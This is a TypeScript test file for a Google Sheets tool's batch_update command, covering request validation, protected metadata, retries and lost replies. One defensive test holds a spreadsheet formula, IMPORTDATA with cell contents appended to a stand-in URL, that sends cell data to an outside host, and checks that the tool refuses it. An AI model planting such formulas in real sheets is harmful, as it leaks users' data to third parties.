// Requests as they are: every kind goes through the tool, malformed ones are told by name, and what a lost reply means.

import { expect, test } from 'vitest';
import { REQUEST_KINDS } from '../../src/sheets/request-kinds.ts';
import { EVERY_KIND, OF_COMMENT, REFUSED_KINDS, SPREADSHEET } from '../support/every-kind.ts';
import { failureOf } from '../support/fake-google.ts';
import { createWorld, startApp } from '../support/wired-app.ts';

async function start(env: Record<string, string> = {}) {
  const world = await createWorld();
  const app = await startApp(world, { TOOLSETS: 'all', ...env });
  const send = (spreadsheet: string, ...requests: unknown[]) =>
    world.until(app.run('batch_update', { spreadsheet, requests }));
  const make = async (): Promise<string> => (await world.direct('', SPREADSHEET)).body.spreadsheetId;
  return { world, app, send, make, id: await make() };
}

const kindOf = (request: object) => Object.keys(request)[0] ?? '';

test('the kinds are those of the client', () => {
  expect([...REQUEST_KINDS].sort()).toEqual([...Object.keys(EVERY_KIND), ...Object.keys(OF_COMMENT)].sort());
  expect(REQUEST_KINDS).toHaveLength(74);
});

test('every kind is done, or refused by the backend by its name', { timeout: 60_000 }, async () => {
  const { world, app, send, make, id } = await start();
  const done = new Set<string>();
  for (const [kind, requests] of Object.entries(EVERY_KIND)) {
    if (REFUSED_KINDS.some((refused) => refused === kind)) {
      const error = await failureOf(send(id, ...requests));
      expect([error.code, error.message]).toEqual([
        'invalid_argument',
        expect.stringContaining(`Invalid requests[0].${kind}: `),
      ]);
    } else {
      const { status, replies } = await send(await make(), ...requests);
      expect([kind, status, (replies as object[]).length]).toEqual([kind, 'applied', requests.length]);
    }
    done.add(kind);
  }
  const { replies: added } = await send(id, ...EVERY_KIND.insertComment);
  const [inserted] = added as { insertComment: { commentThread: { commentId: string } } }[];
  const commentId = inserted?.insertComment.commentThread.commentId ?? '';
  const { replies: replied } = await send(id, OF_COMMENT.addCommentReply(commentId, ''));
  const [first] = replied as { addCommentReply: { post: { postId: string } } }[];
  done.add('addCommentReply');
  for (const kind of ['updateCommentPost', 'deleteCommentReply', 'deleteComment'] as const) {
    const request = OF_COMMENT[kind](commentId, first?.addCommentReply.post.postId ?? '');
    expect(await send(id, request)).toMatchObject({ status: 'applied', replies: [{}] });
    done.add(kind);
  }
  expect(done.size).toBe(74);
  // Each went alone, with its marker where it is not about comments.
  const sent = world.sent.filter(({ kinds }) => kinds.some((kind) => kind.includes('omment')));
  expect(sent.map(({ kinds }) => kinds)).toEqual(
    [
      'insertComment',
      'insertComment',
      'addCommentReply',
      'updateCommentPost',
      'deleteCommentReply',
      'deleteComment',
    ].map((kind) => [kind]),
  );
  expect(world.writes().every(({ kinds }) => !kinds.slice(1).includes(''))).toBe(true);
  app.close();
});

test('replies are one for one, and ids are chosen where none are given', async () => {
  const { world, send, id } = await start();
  const { replies, status } = await send(
    id,
    { addSheet: { properties: { title: 'New' } } },
    ...EVERY_KIND.repeatCell,
    ...EVERY_KIND.findReplace,
  );
  expect(status).toBe('applied');
  expect(replies).toEqual([
    { addSheet: { properties: expect.objectContaining({ title: 'New', sheetId: expect.any(Number) }) } },
    {},
    { findReplace: expect.objectContaining({ occurrencesChanged: 3 }) },
  ]);
  const [sent] = world.writes();
  const [, { addSheet }] = JSON.parse(sent?.body ?? '').requests;
  expect(replies).toMatchObject([{ addSheet: { properties: { sheetId: addSheet.properties.sheetId } } }, {}, {}]);
});

test('nothing is half done, and Google’s refusal names the request', async () => {
  const { world, send, id } = await start();
  const error = await failureOf(send(id, ...EVERY_KIND.addSheet, { deleteSheet: { sheetId: 99 } }));
  expect([error.code, error.message]).toEqual([
    'invalid_argument',
    'Invalid requests[1].deleteSheet: No sheet with id: 99',
  ]);
  const { body } = await world.direct(`/${id}?fields=sheets.properties.title`);
  expect(body.sheets).toHaveLength(2);
});

/** An object in an object, so many times. */
const nested = (depth: number): object =>
  Array.from({ length: depth }).reduce<object>((inner) => ({ a: inner }), { addSheet: {} });

test.each<[string, unknown[], string, string]>([
  ['what is nested without end', [{ addSheet: nested(5_000) }], 'requests[0]: objects within objects', ''],
  [
    'an unknown kind',
    [{ addShet: {} }],
    'requests[0]: there is no kind of request "addShet".',
    'Did you mean addSheet?',
  ],
  ['a kind unlike any', [{ x: {} }], 'requests[0]: there is no kind of request "x".', 'The kinds: addBanding, '],
  [
    'a second unknown key',
    [{ addSheet: {}, feilds: 'x' }],
    'requests[0]: there is no kind of request "feilds".',
    'The kinds: ',
  ],
  [
    'two kinds',
    [{ addSheet: {} }, { addSheet: {}, deleteSheet: {} }],
    'requests[1] holds addSheet and deleteSheet',
    'own',
  ],
  ['no kind', [{}], 'requests[0] is empty.', 'Each names one kind'],
  ['a payload that is none', [{ addSheet: 'New' }], 'requests[0].addSheet must be an object, not "New".', ''],
  ['a list for a payload', [{ addSheet: [] }], 'requests[0].addSheet must be an object, not [].', ''],
  ['no object', ['addSheet'], 'requests[0]: expected an object such as { "addSheet": { ... } }', ''],
  ['a list', [[]], 'requests[0]: expected an object such as', ''],
  [
    'the other spelling',
    [{ updateCells: { rows: [{ values: [{ user_entered_value: {} }] }] } }],
    'requests[0].updateCells.rows[0].values[0]: write the field "user_entered_value" as "userEnteredValue".',
    '',
  ],
  [
    'comments among others',
    [...EVERY_KIND.addSheet, ...EVERY_KIND.insertComment],
    'requests[1].insertComment is about a comment and requests[0].addSheet is not',
    'in a call of their own',
  ],
  [
    'too many',
    Array.from({ length: 1_001 }, () => ({ addSheet: {} })),
    'requests has 1001 items, and a call takes 1000',
    '',
  ],
])('%s is refused before anything is sent', async (_, requests, message, hint) => {
  const { world, send, id } = await start();
  const error = await failureOf(send(id, ...requests));
  expect([error.code === 'too_large' || error.code, error.message]).toEqual([
    error.code === 'too_large' || 'invalid_argument',
    expect.stringContaining(message),
  ]);
  expect(error.hint).toContain(hint);
  expect(world.sent).toEqual([]);
});

const LOOKUP = (lookup: object) => ({ dataFilter: { developerMetadataLookup: lookup } });
test.each<[string, object]>([
  ['all', { deleteDeveloperMetadata: LOOKUP({}) }],
  ['without a filter', { deleteDeveloperMetadata: {} }],
  ['by visibility', { deleteDeveloperMetadata: LOOKUP({ visibility: 'PROJECT' }) }],
  ['by place', { deleteDeveloperMetadata: LOOKUP({ locationType: 'SPREADSHEET' }) }],
  ['by cells', { deleteDeveloperMetadata: { dataFilter: { a1Range: 'Data!A1' } } }],
  ['by our key', { deleteDeveloperMetadata: LOOKUP({ metadataKey: 'ss', metadataId: 5 }) }],
  [
    'by an update of all',
    {
      updateDeveloperMetadata: {
        dataFilters: [LOOKUP({ metadataId: 1 }).dataFilter, LOOKUP({}).dataFilter],
        developerMetadata: { metadataValue: 'x' },
        fields: 'metadataValue',
      },
    },
  ],
  [
    'by taking our key',
    { createDeveloperMetadata: { developerMetadata: { metadataKey: 'ss', location: { spreadsheet: true } } } },
  ],
])('markers are not to be reached: %s', async (_, request) => {
  const { world, send, id } = await start();
  const kind = kindOf(request);
  const error = await failureOf(send(id, ...EVERY_KIND.addSheet, request));
  expect([error.code, error.message]).toEqual([
    'invalid_argument',
    expect.stringContaining(`requests[1].${kind} would reach the metadata with key "ss"`),
  ]);
  expect(world.sent).toEqual([]);
});

test('a reply that is too large is given as its ids', async () => {
  const { send, id } = await start();
  const sheets = Array.from({ length: 900 }, (_, n) => ({
    addNamedRange: { namedRange: { name: `N${n}_${'x'.repeat(80)}`, range: { sheetId: 0, endRowIndex: 3 } } },
  }));
  const { replies, warnings } = await send(id, ...sheets);
  expect(warnings).toEqual([expect.stringContaining('25000 tokens): only their ids are given.')]);
  expect(replies).toHaveLength(900);
  expect((replies as object[])[0]).toEqual({
    addNamedRange: { namedRange: { namedRangeId: expect.stringMatching(/^ss\d+$/) } },
  });
  expect(JSON.stringify(replies).length).toBeLessThan(100_000);
});

test('it travels alone, though others of its kinds wait', async () => {
  const { world, app, id } = await start();
  const write = (row: number) => ({ spreadsheet: id, writes: [{ range: `Other!A${row}`, values: [[row]] }] });
  const works = [1, 2].map((row) => app.run('write_range', write(row)));
  works.push(app.run('batch_update', { spreadsheet: id, requests: EVERY_KIND.updateCells }));
  works.push(app.run('write_range', write(3)));
  const [, , raw] = await world.until(Promise.all(works));
  expect(raw?.replies).toEqual([{}]);
  const alone = world.writes().find(({ body }) => body.includes('"x"'));
  expect(alone?.kinds).toEqual(['createDeveloperMetadata', 'updateCells']);
});

test('a lost reply is found out: applied once, with the ids that were chosen', async () => {
  const { world, send, id } = await start();
  let lost = 0;
  world.onWire(async ({ kinds }, pass) => {
    if (!kinds.includes('addSheet') || lost++ > 0) return pass();
    await pass();
    return new Response('no', { status: 503 });
  });
  const { replies, warnings } = await send(
    id,
    { addSheet: { properties: { title: 'New' } } },
    ...EVERY_KIND.findReplace,
  );
  expect(warnings).toEqual([expect.stringContaining("Google's reply was lost")]);
  expect(replies).toEqual([{ addSheet: { properties: { title: 'New', sheetId: expect.any(Number) } } }, {}]);
  const { body } = await world.direct(`/${id}?fields=sheets.properties(sheetId,title)`);
  expect(body.sheets.map(({ properties }: { properties: object }) => properties)).toContainEqual(
    (replies as { addSheet: { properties: object } }[])[0]?.addSheet.properties,
  );
});

test('with its key it is made once; without one the same again is refused by Google', async () => {
  const { world, app, id } = await start();
  const input = { spreadsheet: id, requests: [{ addSheet: { properties: { title: 'New' } } }] };
  const first = await world.until(app.run('batch_update', input, { key: 'k' }));
  expect(await world.until(app.run('batch_update', input, { key: 'k' }))).toEqual(first);
  expect((await failureOf(world.until(app.run('batch_update', input)))).message).toContain('requests[0].addSheet');
});

test('a formula that fetches is refused in a request too', async () => {
  const { world, send, id } = await start();
  const rows = [{ values: [{ userEnteredValue: { formulaValue: '=IMPORTDATA("http://x/"&A1)' } }] }];
  const error = await failureOf(send(id, { updateCells: { start: { sheetId: 7 }, rows, fields: '*' } }));
  expect([error.code, world.sent.length]).toEqual(['unsupported', 0]);
});

test('what was written is read back, though it was in memory', async () => {
  const { world, app, send, id } = await start();
  const read = () => world.until(app.run('read_range', { spreadsheet: id, ranges: ['Other!A1:B2'] }));
  expect(await read()).toMatchObject({ ranges: [{ totalRows: 0 }] });
  await send(id, ...EVERY_KIND.updateCells);
  expect(await read()).toMatchObject({ ranges: [{ rows: [['x', '1']] }], source: 'live' });
  await send(id, ...EVERY_KIND.updateSheetProperties);
  expect(await failureOf(read())).toMatchObject({ code: 'not_found' });
});

test('comments that Google has lost are told as not saved; with the key they can be sent again', async () => {
  const { world, app, id } = await start({ RETRY_ENABLED: 'false' });
  const input = { spreadsheet: id, requests: EVERY_KIND.insertComment };
  let lost = 0;
  world.onWire(({ kinds }) =>
    kinds.includes('insertComment') && lost++ === 0
      ? Response.json({ spreadsheetId: id, replies: [{}], commentUpdateState: 'ALL_FAILED_UNKNOWN_REASON' })
      : undefined,
  );
  const error = await failureOf(world.until(app.run('batch_update', input, { key: 'k' })));
  expect([error.code, error.message, error.details.outcome]).toEqual([
    'unavailable',
    expect.stringContaining('none of the comments'),
    'none',
  ]);
  expect(await world.until(app.run('batch_update', input, { key: 'k' }))).toMatchObject({
    status: 'applied',
    replies: [{ insertComment: { commentThread: { status: 'OPEN' } } }],
  });
});

test('comments whose answer is lost are not sent again, and hold nobody up', async () => {
  const { world, app, id } = await start();
  let sent = 0;
  world.onWire(async ({ kinds }, pass) => {
    if (!kinds.includes('insertComment')) return pass();
    sent++;
    await pass();
    return new Response('no', { status: 503 });
  });
  const input = { spreadsheet: id, requests: EVERY_KIND.insertComment };
  const error = await failureOf(world.until(app.run('batch_update', input, { key: 'k' })));
  expect([error.code, sent]).toEqual(['outcome_unknown', 1]);
  expect(error.hint).toContain('list_comments');
  const begun = world.clock.now();
  const upsert = { spreadsheet: id, sheet: 'Data', key: ['When'], rows: [{ When: 45001, Town: 'Rom' }] };
  expect(await world.until(app.run('upsert_rows', upsert))).toMatchObject({ status: 'applied', updated: 1 });
  expect(world.clock.now() - begun).toBeLessThan(5_000);
  expect((await failureOf(world.until(app.run('batch_update', input, { key: 'k' })))).code).toBe('outcome_unknown');
  expect(sent).toBe(1);
});
